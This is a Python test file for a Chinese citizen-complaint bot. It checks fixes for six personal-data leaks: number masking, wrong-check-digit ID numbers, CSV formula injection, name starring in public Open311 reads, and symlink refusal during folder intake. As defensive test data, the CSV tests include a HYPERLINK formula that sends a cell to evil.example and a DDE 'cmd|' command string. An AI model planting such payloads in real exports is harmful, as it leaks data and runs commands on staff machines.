"""The six leaks of personal data an outside probe found (issue #15), each shut where it was:
the chat read-back (L1), cut summaries (L2), 身份证号 with a wrong check digit (L3), formulas
in CSV exports (L4), Open311's public reads (L5) and symbolic links in `bot intake DIR` (L6)."""
from __future__ import annotations

import csv
import io
import json
import os
from types import SimpleNamespace

import pytest
from click.testing import CliRunner
from rasa_sdk.events import SlotSet

from actions import report, texts
from bot.cases import OpenCase
from bot.cases import reports
from bot.cli import main
from bot.csvsafe import cell
from bot.intake.extract import SUMMARY_LIMIT, summarize
from bot.intake.places import Place
from bot.intake.reader import ReadFailure, Transcript, read_path
from bot.nlu.evaluation import write_predictions
from bot.open311 import render
from bot.open311.door import Open311Door
from bot.open311.keys import ApiKeys
from bot.open311.submission import Submission
from bot.privacy import ID_CARD, find, mask_names, mask_text, masked_head
from tests.chat_helpers import chat, run, tracker  # noqa: F401
from tests.test_intake_cli import env  # noqa: F401  (bot commands on a new SQLite store)

# The probe's conversation: an ID with a valid check digit, a card passing Luhn, a phone.
MATTER = "我叫李建华，身份证号11010519491231002X，银行卡6222020200112233446，手机13912345678，低保金三个月没打到卡上了"
RAW = ("11010519491231002X", "6222020200112233446", "13912345678")
BAD_CHECK_ID = "110101199003077777"          # region and birth date valid, check digit wrong


def readable(text: str, numbers=RAW + (BAD_CHECK_ID, "13812345678")) -> list[str]:
    """The numbers, or six-digit heads of them, that `text` shows in clear."""
    return [n for n in numbers if n[:6] in text]


# ------------------------------------------------------------------ L1: the chat read-back
def test_l1_read_back_masks_numbers_typed_in_the_matter_the_place_and_the_time():
    said = texts.read_back(MATTER, "民政/低保", "幸福路12号 联系13812345678", "昨天，电话13812345678",
                           "13912345678", "李建华")
    assert readable(said) == []
    assert "身份证号1101**********002X，银行卡****3446，手机139****5678" in said
    assert "· 地点：幸福路12号 联系138****5678" in said
    assert "· 联系方式：李建华 139****5678" in said


def test_l1_read_back_masks_a_phone_read_digit_by_digit(chat):
    slots = {"description": "小区路灯坏了，我电话幺三八幺二三四五六七八", "category": "urban.municipal_facility",
             "place": "建设路3号", "event_time": "昨晚", "contact": "匿名", "pending": "confirm_report"}
    events, messages = run(report.ActionReadBack(), tracker("x", slots=slots))
    assert events[0] == SlotSet("pending", "confirm_report")
    said = messages[0]["text"]
    assert "幺三八幺二三四五六七八" not in said and "· 事项：小区路灯坏了，我电话138****5678" in said


# ------------------------------------------------------------------ L2: summaries cut before masking
def test_l2_a_chat_summary_cut_through_a_phone_shows_none_of_its_digits(service):
    """The chat sends `description[:60]` as the summary: the cut fell inside the phone."""
    assert MATTER[:60].endswith("手机139123")
    view = service.open_case(OpenCase(text=MATTER + "（时间：上个月）", category="civil.subsistence",
                                      summary=MATTER[:60], actor="chat", anonymous=True))
    shown = [view.summary, service.get(view.number).summary,
             *[c.summary for c in service.list_cases() if c.number == view.number]]
    for summary in shown:
        assert readable(summary) == [] and "139123" not in summary
        assert summary.startswith("我叫李建华，身份证号1101**********002X，银行卡****3446")
    assert "139****5678" in service.get(view.number).text


def test_l2_the_default_summary_and_short_lines_never_cut_through_a_number(service):
    text = "楼道灯坏了很久了一直没人修，晚上上下楼很危险，老人摔倒过两次，麻烦物业和社区尽快派人来处理一下，我的手机13912345678"
    assert text.index("139") < 59 < text.index("139") + 11      # the first 59 characters cut it
    view = service.open_case(OpenCase(text=text, category="urban.municipal_facility", anonymous=True))
    assert view.summary == text[:text.index("139")] + "…"
    assert texts.short("联系人手机13912345678", 12) == "联系人手机…"
    assert texts.short("事项改成：电话13912345678", 40) == "事项改成：电话139****5678"


def test_l2_a_cut_keeps_whole_masks_and_leaves_out_a_number_it_would_split():
    assert masked_head(MATTER, 60) == "我叫李建华，身份证号1101**********002X，银行卡****3446，手机"
    assert masked_head(MATTER, 200) == mask_text(MATTER)
    assert masked_head("手机13912345678", 14, ellipsis="…") == "手机139****5678"   # not cut
    long_id = f"家住幸福里，身份证号{BAD_CHECK_ID}，麻烦核实"
    assert masked_head(long_id, 20, ellipsis="…") == "家住幸福里，身份证号…"


def test_l2_an_intake_summary_is_masked_before_it_is_cut():
    sentence = "楼下烧烤店每天营业到凌晨两点油烟噪音都很大" * 4 + "吵" * 17 + "，我的电话13912345678"
    assert ("来电人反映：" + sentence)[:SUMMARY_LIMIT - 1].endswith("，我的电话1391234")
    made = summarize([sentence], None, Place())
    assert made == "来电人反映：" + sentence[:sentence.index("139")] + "…"


# ------------------------------------------------------------------ L3: a 身份证号 with a wrong check digit
@pytest.mark.parametrize("text, value", [
    (f"身份证{BAD_CHECK_ID}", BAD_CHECK_ID),                       # the probe's shape
    (f"号码 {BAD_CHECK_ID} 是我的", BAD_CHECK_ID),                  # no word before it
    ("身份证号110105194912310025，", "110105194912310025"),       # Open311's example
    ("我的身份证号码是 990101199013451234", "990101199013451234"),  # any 18 after the word
    ("身份证：11010519491231002", None),                           # 17 digits: not an ID
    ("老身份证号 330106851231123", "330106851231123"),             # 15 digits, old ID
])
def test_l3_an_id_shape_with_a_wrong_check_digit_is_masked(text, value):
    ids = [f.value for f in find(text) if f.kind == ID_CARD]
    assert ids == ([value] if value else [])
    if value:
        assert value not in mask_text(text) and value[-4:] in mask_text(text)


@pytest.mark.parametrize("text", [
    "订单号202412031234567890催了好几次",      # 18 digits, starts with no province
    "单号110000000012345678",                  # a province, no prefecture, no date
    "工单 330102200002301234 还没处理",        # 2000-02-30 is no day
    "户号3301234567电费多扣了",
    "电费户号 0571234567890",
    "快递单号SF1234567890123",
    "交易流水号 4412999919900307123",          # 19 digits, not Luhn
])
def test_l3_ordinary_long_numbers_stay_readable(text):
    assert mask_text(text) == text


def test_l3_the_cli_masks_it(env):
    r = CliRunner().invoke(main, ["case", "open", "--text",
                                  f"楼上装修噪音太大，我电话13812345678，身份证{BAD_CHECK_ID}",
                                  "--category", "env.noise", "--json"])
    assert r.exit_code == 0, r.output
    assert BAD_CHECK_ID not in r.output and "身份证1101**********7777" in json.loads(r.output)["text"]


# ------------------------------------------------------------------ L4: formulas in CSV
@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"点我") 垃圾没人收', "'=HYPERLINK("),
    ("+1+cmd|' /C calc'!A0", "'+1"), ("-2+3", "'-2"), ("@SUM(A1)", "'@SUM"),
    ("\t=1+1", "'\t="), ("\r=1+1", "'\r="), ("＝1+1", "'＝"),
])
def test_l4_a_cell_that_would_start_a_formula_is_kept_as_text(value, written):
    assert str(cell(value)).startswith(written)


def test_l4_ordinary_cells_are_written_as_they_are():
    assert [cell(v) for v in ("垃圾没人收", "a=b", "", None, -3, 2.5)] == ["垃圾没人收", "a=b", "", None, -3, 2.5]


def test_l4_the_staff_csv_export_neutralises_formulas(service):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我") 垃圾没人收'
    service.open_case(OpenCase(text=evil, category="urban.sanitation", anonymous=True))
    service.open_case(OpenCase(text="@SUM(1+1)*cmd 垃圾桶满了", category="urban.sanitation",
                               anonymous=True))
    service.open_case(OpenCase(text=f"身份证{BAD_CHECK_ID}的低保没发", category="civil.subsistence",
                               anonymous=True))                 # L3 in the export as well
    period = service.clock().strftime("%Y-%m")
    data = reports.to_csv(service, reports.build(service, period), "cases").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    cells = [c for row in rows[1:] for c in row]
    assert BAD_CHECK_ID not in data and "身份证1101**********7777的低保没发" in cells
    assert "'" + evil in cells and "'@SUM(1+1)*cmd 垃圾桶满了" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_l4_evaluate_predictions_csv_neutralises_formulas(tmp_path):
    label = SimpleNamespace(level1="城乡建设", code=None)
    rows = [SimpleNamespace(text="=1+cmd|' /C calc'!A0", raw_label="-城乡建设", label=label)]
    results = [SimpleNamespace(code="urban.sanitation", level1="城乡建设", level2="环境卫生",
                               confidence=0.5)]
    path = tmp_path / "p.csv"
    write_predictions(path, rows, results)
    written = list(csv.reader(path.open(encoding="utf-8-sig")))[1]
    assert written[:2] == ["'=1+cmd|' /C calc'!A0", "'-城乡建设"]


# ------------------------------------------------------------------ L5: Open311 public reads
@pytest.mark.parametrize("text, masked", [
    ("我叫张三，电话13912345678", "我叫张*，电话139****5678"),
    ("本人李建华，住幸福路", "本人李**，住幸福路"),
    ("我是赵六，楼下太吵", "我是赵*，楼下太吵"),
    ("我姓张，名三丰，", "我姓张，名**，"),
    ("联系人：欧阳娜娜", "联系人：欧阳**"),
    ("我是王女士，我是房东，我是党员", "我是王女士，我是房东，我是党员"),
    ("我姓王", "我姓王"),
    ("本人要求赔偿，我是这里的住户", "本人要求赔偿，我是这里的住户"),
])
def test_l5_names_typed_about_oneself_are_starred(text, masked):
    assert render.public_text(text) == masked
    assert mask_names(masked) == masked                          # starring twice changes nothing


@pytest.fixture
def door(container):
    door = Open311Door(container.cases, ApiKeys(container.engine), "test.county")
    return door, door.client(ApiKeys(container.engine).create("probe", container.cases.clock()))


def test_l5_public_reads_mask_names_numbers_and_bad_check_ids(door):
    door, client = door
    filed = door.submit(client, Submission(
        service_code="urban.sanitation",
        description=f"我叫张三，电话13912345678，身份证号{BAD_CHECK_ID}，小区垃圾三天没人收了"))
    for shown in (door.one(filed.number), *door.search(ids=[filed.number])):
        assert shown["description"] == "我叫张*，电话139****5678，身份证号1101**********7777，小区垃圾三天没人收了"


@pytest.mark.parametrize("code, text", [
    ("env.noise", "楼上吵得我实在受不了，不想活了，今晚就从楼顶跳下去"),
    ("env.noise", "楼下有人拿刀砍人，快来"),
    ("security.emergency", "请尽快派人来看看"),
])
def test_l5_public_reads_show_nothing_of_a_crisis_or_an_emergency(door, code, text):
    door, client = door
    filed = door.submit(client, Submission(service_code=code, description=text))
    shown = door.one(filed.number)
    assert shown["description"] == render.PRIVATE == "（内容涉及个人隐私，不予公开）"


def test_l5_an_ordinary_matter_is_still_described(door):
    door, client = door
    filed = door.submit(client, Submission(service_code="env.noise",
                                           description="楼下烧烤店每天半夜还很吵，吵得孩子睡不着"))
    assert door.one(filed.number)["description"] == "楼下烧烤店每天半夜还很吵，吵得孩子睡不着"


# ------------------------------------------------------------------ L6: symbolic links in a folder
@pytest.fixture
def folder(tmp_path):
    calls = tmp_path / "calls"
    (calls / "sub").mkdir(parents=True)
    (calls / "ok.txt").write_text("市民：我们小区路灯坏了一个星期了，晚上很黑。", encoding="utf-8")
    secret = tmp_path / "secret.txt"
    secret.write_text("root:*:20228:0:99999:7:::", encoding="utf-8")
    os.symlink(secret, calls / "evil.txt")
    os.symlink(tmp_path, calls / "linked_dir")
    os.mkfifo(calls / "sub" / "pipe.txt")
    return calls


def test_l6_a_folder_refuses_links_and_what_is_not_a_regular_file(folder):
    items = read_path(folder)
    failures = {i.id: i.error for i in items if isinstance(i, ReadFailure)}
    assert set(failures) == {"evil", "linked_dir", "pipe"}
    assert failures["evil"].zh == failures["linked_dir"].zh == "是符号链接，为安全起见不导入（请把文件本身放进目录）"
    assert failures["pipe"].zh.startswith("不是普通文件")
    transcripts = [i for i in items if isinstance(i, Transcript)]
    assert [t.id for t in transcripts] == ["ok"]                   # the rest of the batch goes on
    assert not any("root:" in t.full_text for t in transcripts)


def test_l6_bot_intake_dir_reports_each_refused_item_and_files_the_rest(folder, env):
    r = CliRunner().invoke(main, ["intake", str(folder), "--dry-run", "--json"])
    assert "root:" not in r.output
    rows = [json.loads(line) for line in r.stdout.splitlines() if line.startswith("{")]
    errors = {row["id"]: row["error"] for row in rows if row.get("error")}
    assert set(errors) == {"evil", "linked_dir", "pipe"}, r.output
    assert [row["id"] for row in rows if not row.get("error")] == ["ok"]
